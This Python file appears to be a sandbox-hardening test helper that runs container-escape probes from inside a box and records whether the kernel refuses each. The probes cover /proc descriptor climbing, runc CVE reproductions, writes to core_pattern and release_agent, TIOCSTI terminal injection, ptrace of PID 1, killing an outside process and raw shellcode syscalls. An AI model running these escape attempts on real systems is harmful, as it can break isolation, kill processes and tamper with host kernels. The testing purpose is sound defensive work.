"""Attacks on the machine, made from inside a box. One file of standard Python, which a task or a command runs there.

`attack_all` makes them all and says of each what came of it: the name of the error that the kernel refused it with
("EPERM"), or else what it got. Each leaves the box as it found it, so that one box stands them all. What an attack
leaves on the machine is for the test to look at, from outside.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import pty
import resource
import signal
import socket
import subprocess
import sys
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
X86_64, ARM64 = 0, 1
IS_X86_64 = platform.machine() == "x86_64"
# Numbers from the kernel's own tables, not from the code under test.
NUMBERS = {
    "mount": (165, 40),
    "umount2": (166, 39),
    "pivot_root": (155, 41),
    "ptrace": (101, 117),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "bpf": (321, 280),
    "perf_event_open": (298, 241),
    "add_key": (248, 217),
    "request_key": (249, 218),
    "keyctl": (250, 219),
    "open_by_handle_at": (304, 265),
    "kexec_load": (246, 104),
    "init_module": (175, 105),
    "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425),
    "open_tree": (428, 428),
    "move_mount": (429, 429),
    "fsopen": (430, 430),
    "mount_setattr": (442, 442),
    "setns": (308, 268),
    "unshare": (272, 97),
    "clone": (56, 220),
    "clone3": (435, 435),
    "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438),
    "mknodat": (259, 33),
}
CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER, CLONE_NEWPID = 0x20000, 0x2000000, 0x10000000, 0x20000000
TIOCSTI, TIOCLINUX = 0x5412, 0x541C
UP = "/".join([".."] * 12)


def outcome(act: Any) -> str:
    """What `act` came to: the error's name, or its answer."""
    try:
        return repr(act())
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    except Exception as error:  # noqa: BLE001  an attack that breaks is for the test to see
        return f"{type(error).__name__}: {error}"


def call(name: str, *arguments: Any) -> int:
    """A system call by its number; a function of libc might do something else first."""
    number = NUMBERS[name][X86_64 if IS_X86_64 else ARM64]
    return raw(number, *arguments)


def raw(number: int, *arguments: Any) -> int:
    whole = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    result: int = LIBC.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), f"system call {number}")
    return result


def in_child(act: Any) -> str:
    """The outcome of `act` in a child, or the signal that ended it."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(write_end, outcome(act).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end) as pipe:
        said = pipe.read()
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    return said if status == 0 else signal.Signals(-status).name


def open_to_write(path: str) -> str:
    """Whether `path` can be opened for writing; nothing is written."""
    if not os.path.exists(path):
        return "ENOENT"
    return outcome(lambda: os.close(os.open(path, os.O_WRONLY)))


def fields(status: str) -> dict[str, str]:
    """What a /proc/PID/status says, by its names."""
    return {name: " ".join(rest.split()) for name, _, rest in (line.partition(":") for line in status.splitlines())}


def processes() -> list[str]:
    return [name for name in os.listdir("/proc") if name.isdecimal()]


# --- 1, 2, 15: other processes and what they hold open ---------------------------------------------------------------


def own_descriptors(_given: dict[str, Any]) -> list[str]:
    """What this process holds beside the standard three: a directory would be a way out."""
    held = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            if os.path.isdir(f"/proc/self/fd/{name}") and not os.readlink(f"/proc/self/fd/{name}").endswith("/fd"):
                held.append(os.readlink(f"/proc/self/fd/{name}"))
    return held


def climb_out(given: dict[str, Any]) -> str:
    """Goes up from every directory that any process here has, and writes where the machine would see it."""
    tried = 0
    for pid in processes():
        links = [f"/proc/{pid}/cwd", f"/proc/{pid}/root"]
        for folder in ("fd", "map_files"):
            with contextlib.suppress(OSError):
                links += [f"/proc/{pid}/{folder}/{name}" for name in os.listdir(f"/proc/{pid}/{folder}")]
        for number, link in enumerate(links):
            for way in (f"{link}/{UP}{given['canary']}", f"{link}{given['canary']}"):
                tried += 1
                with contextlib.suppress(OSError), open(f"{way}/climbed-{pid}-{number}", "w") as file:
                    file.write("out")
    return "tried" if tried else "nothing to try"


def enter_descriptors(_given: dict[str, Any]) -> dict[str, str]:
    """Starts programs in directories given by number, as a leaked one would be (CVE-2024-21626)."""
    found = {}
    before = os.getcwd()
    for fd in range(3, 64):
        for pid in ("self", "1"):
            with contextlib.suppress(OSError):
                os.chdir(f"/proc/{pid}/fd/{fd}")
                found[f"{pid}/{fd}"] = os.getcwd()
                os.chdir(before)
    return found


def first_process(_given: dict[str, Any]) -> dict[str, str]:
    """The one that made the box, or made this process: its memory, program, descriptors, environment."""

    def read_memory() -> bytes:
        with open("/proc/1/maps") as maps:
            start = int(maps.readline().split("-")[0], 16)
        with open("/proc/1/mem", "rb", buffering=0) as memory:
            memory.seek(start)
            return memory.read(4)

    def take_descriptor() -> int:
        fd = call("pidfd_open", 1, 0)
        try:
            return call("pidfd_getfd", fd, 0, 0)
        finally:
            os.close(fd)

    return {
        "memory": outcome(read_memory),
        "program": outcome(lambda: os.close(os.open("/proc/1/exe", os.O_RDONLY))),
        "descriptors": outcome(lambda: [os.readlink(f"/proc/1/fd/{fd}") for fd in os.listdir("/proc/1/fd")]),
        "environment": outcome(lambda: open("/proc/1/environ", "rb").read(1)),
        "mount namespace": outcome(lambda: os.close(os.open("/proc/1/ns/mnt", os.O_RDONLY))),
        "root": outcome(lambda: os.readlink("/proc/1/root")),
        "take a descriptor": outcome(take_descriptor),
        "ptrace": outcome(lambda: call("ptrace", 16, 1, 0, 0)),
        "process_vm_readv": outcome(lambda: call("process_vm_readv", 1, 0, 0, 0, 0, 0)),
        "process_vm_writev": outcome(lambda: call("process_vm_writev", 1, 0, 0, 0, 0, 0)),
    }


def victim(given: dict[str, Any]) -> dict[str, str]:
    """A process outside, of the same user, by its pid there."""
    pid = given["victim"]
    with contextlib.suppress(OSError):
        for one in processes():  # whoever has that number in here is not the victim
            if int(one) == pid:
                return {"kill": "ESRCH", "look": "ENOENT"}
    return {"kill": outcome(lambda: os.kill(pid, 9)), "look": outcome(lambda: os.listdir(f"/proc/{pid}"))}


def other_commands(given: dict[str, Any]) -> list[str]:
    """Processes that can be seen and carry the mark of the victim."""
    seen = []
    for pid in processes():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            if file.read().endswith(b"\0" + given["mark"].encode() + b"\0"):
                seen.append(pid)
    return seen


def runtime_program(_given: dict[str, Any]) -> dict[str, str]:
    """Writing to the interpreter that runs here (CVE-2019-5736)."""
    return {"self": open_to_write("/proc/self/exe"), "first": outcome(lambda: os.close(os.open("/proc/1/exe", 1)))}


# --- 5, 7: the kernel's own files ------------------------------------------------------------------------------------

KERNEL_FILES = (
    *("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger"),
    *("/proc/sys/kernel/hostname", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/user/max_user_namespaces"),
    *("/proc/irq/default_smp_affinity", "/proc/kcore", "/proc/mtrr", "/proc/scsi/scsi", "/proc/latency_stats"),
    *("/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run", "/sys/fs/cgroup/release_agent"),
    *("/sys/fs/cgroup/cgroup.procs", "/sys/kernel/security/apparmor/.remove", "/proc/bus/pci/devices"),
)


def kernel_files(_given: dict[str, Any]) -> dict[str, str]:
    """Opens for writing what would change the kernel, or run a program outside."""
    controls = []
    for folder, folders, files in os.walk("/sys/fs/cgroup"):
        controls += [os.path.join(folder, name) for name in files if name in ("release_agent", "notify_on_release")]
        if folder.count("/") > 6:
            folders.clear()
    return {path: open_to_write(path) for path in (*KERNEL_FILES, *controls)}


def memory_of_the_machine(_given: dict[str, Any]) -> dict[str, str]:
    paths = ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/proc/kmsg")
    return {path: outcome(lambda path=path: os.close(os.open(path, os.O_RDONLY))) for path in paths}


def null_device(_given: dict[str, Any]) -> list[int]:
    """The device that stands for what is masked: it must be the real one (CVE-2025-31133)."""
    status = os.stat("/dev/null")
    return [os.major(status.st_rdev), os.minor(status.st_rdev)]


# --- 6: the terminal -------------------------------------------------------------------------------------------------


def terminal(_given: dict[str, Any]) -> dict[str, str]:
    """Types into a terminal, with and without high bits that a filter of 64 bits would stumble over."""

    def type_in(request: int) -> int:
        main, side = pty.openpty()
        signal.signal(signal.SIGHUP, signal.SIG_IGN)  # what closing it sends
        os.setsid()
        fcntl.ioctl(side, 0x540E, 0)  # TIOCSCTTY: typing is for who it controls
        letter = ctypes.create_string_buffer(b"x")
        number = 16 if IS_X86_64 else 29
        try:
            return raw(number, side, request, ctypes.cast(letter, ctypes.c_void_p))
        finally:
            os.close(main)

    return {
        f"{request:#x}": in_child(lambda request=request: type_in(request))
        for request in (TIOCSTI, TIOCSTI | 1 << 32, TIOCSTI | 1 << 63, TIOCLINUX, TIOCLINUX | 1 << 40)
    }


# --- 8, 9, 13, 27: rights --------------------------------------------------------------------------------------------


def rights(_given: dict[str, Any]) -> dict[str, str]:
    wanted = ("CapInh", "CapPrm", "CapEff", "CapAmb", "NoNewPrivs", "Seccomp")
    with open("/proc/self/status") as status:
        found = fields(status.read())
    return {name: found[name] for name in wanted}


def gain_rights(given: dict[str, Any]) -> dict[str, dict[str, str]]:
    """Executes programs that give others rights: set-id, and with file capabilities."""
    gained = {}
    for name in ("setuid", "setgid", "capable"):
        program = os.path.join(given["programs"], name)
        if os.path.exists(program):
            done = subprocess.run([program, "/proc/self/status"], capture_output=True, text=True, check=False)
            found = fields(done.stdout)
            gained[name] = {one: found.get(one, done.stderr) for one in ("Uid", "Gid", "CapEff")}
    return gained


def groups(_given: dict[str, Any]) -> str:
    return outcome(lambda: os.setgroups([]))


def limits(_given: dict[str, Any]) -> str:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    return outcome(lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard + 1)))


# --- 10, 11, 12, 16, 17: system calls --------------------------------------------------------------------------------


def refused_calls(_given: dict[str, Any]) -> dict[str, str]:
    names = [
        name
        for name in NUMBERS
        if name not in ("setns", "unshare", "clone", "clone3", "pidfd_open", "pidfd_getfd", "mknodat")
    ]
    return {name: outcome(lambda name=name: call(name, -1, -1, -1, -1, -1, -1)) for name in names}


def namespaces(_given: dict[str, Any]) -> dict[str, str]:
    def start(*arguments: int) -> int:
        pid = call(*arguments)
        if pid == 0:
            os._exit(0)
        return pid

    return {
        "unshare user": in_child(lambda: call("unshare", CLONE_NEWUSER)),
        "unshare user and mounts": in_child(lambda: call("unshare", CLONE_NEWUSER | CLONE_NEWNS)),
        "unshare with high bits": in_child(lambda: call("unshare", CLONE_NEWUSER | 1 << 40)),
        "unshare cgroup": in_child(lambda: call("unshare", CLONE_NEWCGROUP)),
        "clone user": in_child(lambda: start("clone", CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)),
        "clone pid": in_child(lambda: start("clone", CLONE_NEWPID | signal.SIGCHLD, 0, 0, 0, 0)),
        "own mounts again": outcome(lambda: call("setns", os.open("/proc/self/ns/mnt", os.O_RDONLY), 0)),
        "clone3": in_child(lambda: call("clone3", 0, 0)),
    }


def other_conventions(_given: dict[str, Any]) -> dict[str, str]:
    """getpid as a 32-bit and as an x32 program would ask for it."""
    if not IS_X86_64:
        return {"32 bits": "SIGSYS", "x32": "ENOSYS"}  # this processor has none

    def call_32() -> int:
        page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(bytes.fromhex("b814000000 cd80 c3"))  # mov eax, 20; int 0x80; ret
        return int(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())

    return {"32 bits": in_child(call_32), "x32": in_child(lambda: raw(0x40000000 + 39))}


def mounts(_given: dict[str, Any]) -> dict[str, str]:
    """By libc's functions, with arguments that would work for one who may."""
    return {
        "tmpfs": outcome(lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, 0)),
        "cgroup": outcome(lambda: call("mount", b"none", b"/tmp", b"cgroup", 0, b"memory")),
        "remount": outcome(lambda: call("mount", b"none", b"/", b"", 0x20, 0)),
        "proc again": outcome(lambda: call("mount", b"proc", b"/proc", b"proc", 0, 0)),
        "unmount": outcome(lambda: call("umount2", b"/run", 2)),
    }


def devices(given: dict[str, Any]) -> dict[str, str]:
    """Makes device nodes, and opens those that lie about on the machine."""
    block, character = 0o060666, 0o020666
    found = {
        "make a block device": outcome(lambda: os.mknod("block", block, os.makedev(254, 0))),
        "make a character device": outcome(lambda: os.mknod("character", character, os.makedev(1, 1))),
    }
    node = os.path.join(given["programs"], "zero")
    if os.path.exists(node):
        found["open one"] = outcome(lambda: os.close(os.open(node, os.O_RDONLY)))
    return found


# --- 14: sockets, 18: attributes -------------------------------------------------------------------------------------


def sockets(given: dict[str, Any]) -> dict[str, str]:
    def connect(family: int, address: Any) -> None:
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(5)
            one.connect(address)

    return {
        "abstract": outcome(lambda: connect(socket.AF_UNIX, "\0" + given["abstract"])),
        "loopback": outcome(lambda: connect(socket.AF_INET, ("127.0.0.1", given["port"]))),
    }


def attributes(_given: dict[str, Any]) -> dict[str, str]:
    """Marks that the next overlay over what is published would believe."""
    with open("marked", "w"):
        pass
    value = bytes.fromhex("0100000200200000000000000000000000000000")  # cap_net_raw, effective
    try:
        return {
            name: outcome(lambda name=name: os.setxattr("marked", name, value))
            for name in ("trusted.overlay.opaque", "trusted.overlay.redirect", "security.capability")
        }
    finally:
        os.unlink("marked")


def replace_interpreter(given: dict[str, Any]) -> str:
    """Writes over the interpreter by its own name: where that is copy-on-write, it had better be."""
    path = os.path.realpath(given["interpreter"])

    def replace() -> None:
        with open(path + ".new", "wb") as file:
            file.write(b"#!/bin/sh\n")
        os.rename(path, path + ".old")
        os.rename(path + ".new", path)

    said = outcome(replace)
    if said == "None":
        os.rename(path + ".old", path)
    return said


ATTACKS = (
    *(own_descriptors, climb_out, enter_descriptors, first_process, victim, other_commands, runtime_program),
    *(kernel_files, memory_of_the_machine, null_device, terminal, rights, gain_rights, groups, limits),
    *(refused_calls, namespaces, other_conventions, mounts, devices, sockets, attributes),
    replace_interpreter,
)


def attack_all(given: dict[str, Any]) -> dict[str, Any]:
    return {attack.__name__: attack(given) for attack in ATTACKS}


def main() -> None:
    json.dump(attack_all(json.loads(sys.argv[1])), sys.stdout)


if __name__ == "__main__":
    main()
